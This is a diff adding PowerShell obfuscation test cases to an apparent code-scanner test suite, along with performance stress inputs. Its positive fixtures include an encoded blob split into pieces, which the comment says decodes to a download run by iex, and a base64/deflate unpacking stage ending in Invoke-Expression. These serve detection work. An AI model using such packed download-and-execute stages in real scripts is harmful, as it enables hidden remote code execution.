@@ -684,3 +684,63 @@ describe('adversarial VBA string evaluation', () => {
     expectScansQuickly([text], 'macros/X.bas');
   });
 });
+
+/** A gzip+base64 blob cut into four table entries (PowerShell `@{ a = '…'; … }`), joined when run. */
+function psPieces(blob: string): string {
+  const n = blob.length / 4;
+  const parts = [0, 1, 2, 3].map((i) => `  p${i} = '${blob.slice(i * n, (i + 1) * n)}'`);
+  return `$t = @{\n${parts.join('\n')}\n}\n$s = $t.p0 + $t.p1 + $t.p2 + $t.p3\n`;
+}
+
+describeRuleCases('obfuscation (compressed blob in pieces)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'scripts/Tidy.ps1',
+    // Decodes to a WebClient download run by iex.
+    positive: psPieces(
+      'H4sIAAAAAAACAwXBsQqAIBQF0F9xCKyhJ61FU802NDSrPcoQlbxgn985jZs1136zDzsIzaCD7RI8R0yeP9E4WlONIZlzx+vj1cobyGVUqsBcTNacdyqgyFCZchlk9wNOTQGpVAAAAA==',
+    ),
+    // Decodes to a CSV header template: data, not a command.
+    negative: psPieces(
+      'H4sIAAAAAAACAwvNyyzRCUnNS8wr0QlKBRJOiTmJecmpXI6GOi75qQpeOoZGBgY6BlyORjpBQL63jqGxqYGOuSkXAPPAhQU6AAAA',
+    ),
+  },
+]);
+
+describe('adversarial compressed pieces', () => {
+  const MiB = 1024 * 1024;
+  // Gzip heads that never inflate, each followed by the most pieces the join walks through.
+  const piece = (c: string) => `'${c.repeat(4000 / c.length)}'\n`;
+  const group = piece('H4sIAAAAAAACAwXBsQqA') + piece('QaFu0DAEINUOjSUoa1LX').repeat(16);
+  const text = group.repeat(12) + 'hello world ok\n'.repeat((MiB - group.length * 12) / 15);
+  it('should scan 1 MiB of long pieces after gzip heads in under a second', () => {
+    expectScansQuickly([text], 'scripts/x.ps1');
+  });
+});
+
+const PS_UNPACK_HEAD =
+  '$b = [Convert]::FromBase64String($packed)\n$ms = New-Object IO.MemoryStream(,$b)\n$gz = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)\n$code = (New-Object IO.StreamReader($gz)).ReadToEnd()\n';
+
+describeRuleCases('obfuscation (PowerShell packed stage)', [
+  {
+    id: 'SG-OBFUSC-901',
+    file: 'tools/Setup-Report.ps1',
+    positive: PS_UNPACK_HEAD + 'Invoke-Expression $code\n',
+    // The unpacked text is a report template written to disk; the scriptblock run is the script's own.
+    negative:
+      PS_UNPACK_HEAD +
+      "Set-Content -Path $out -Value $code\n$job = [ScriptBlock]::Create('Get-Date')\n& $job\n",
+  },
+]);
+
+describe('adversarial PowerShell packed stages', () => {
+  const MiB = 1024 * 1024;
+  const head = 'FromBase64String GZipStream\n';
+  const cases: [string, string][] = [
+    ['runs of many names', head + Array.from({ length: MiB / 16 }, (_, i) => `iex $v${i % 997}\n`).join('')],
+    ['assignments', head + 'iex $a\n' + '$a = x '.repeat(MiB / 7)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'tools/x.ps1');
+  });
+});
